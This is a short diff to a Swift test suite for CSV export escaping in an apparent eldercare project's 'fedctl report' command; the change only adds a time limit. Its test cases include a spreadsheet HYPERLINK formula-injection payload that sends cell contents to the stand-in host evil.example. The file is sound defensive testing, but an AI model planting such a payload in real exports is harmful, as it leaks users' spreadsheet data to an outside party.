@@ -4,7 +4,7 @@ import Eldercare
 
 /// `CSVField`: the cells `fedctl report --format csv` writes, neutralised against formula injection
 /// (OWASP) and quoted (RFC 4180).
-@Suite struct CSVFieldTests {
+@Suite(.timeLimit(.minutes(10))) struct CSVFieldTests {
     @Test(arguments: [
         (#"=HYPERLINK("http://evil.example/?d="&A1,"点此")"#, #""'=HYPERLINK(""http://evil.example/?d=""&A1,""点此"")""#),
         ("=1+1", "'=1+1"),
